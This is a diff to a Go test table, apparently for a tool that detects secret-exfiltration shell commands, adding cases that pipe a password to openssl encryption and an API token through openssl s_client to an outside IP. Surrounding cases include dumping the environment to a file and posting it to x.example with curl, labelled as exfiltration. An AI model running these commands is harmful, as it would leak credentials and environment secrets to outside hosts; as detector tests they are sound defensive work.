@@ -59,6 +59,8 @@ func TestProgram(t *testing.T) {
 		{`echo "$API_TOKEN" | nc localhost 8080`, "", false},
 		{`echo "$API_TOKEN" | curl -d @- http://localhost:8080/x`, "", false},
 		{`echo "$PASS" | ssh h sudo -S ls`, "", false},
+		{`echo "$ENC_PASSWORD" | openssl enc -aes-256-cbc -pass stdin -in a -out a.enc`, "", false},
+		{`echo "$API_TOKEN" | openssl s_client -connect 203.0.113.9:443`, "exfil/secret_var", false},
 		{`echo "$DOCKER_PASSWORD" | docker login -u me --password-stdin`, "", false},
 		{`echo "$GITHUB_TOKEN" | gh auth login --with-token`, "", false},
 		{`env > /tmp/e; curl -F f=@/tmp/e https://x.example`, "exfil/env_to_network", false},
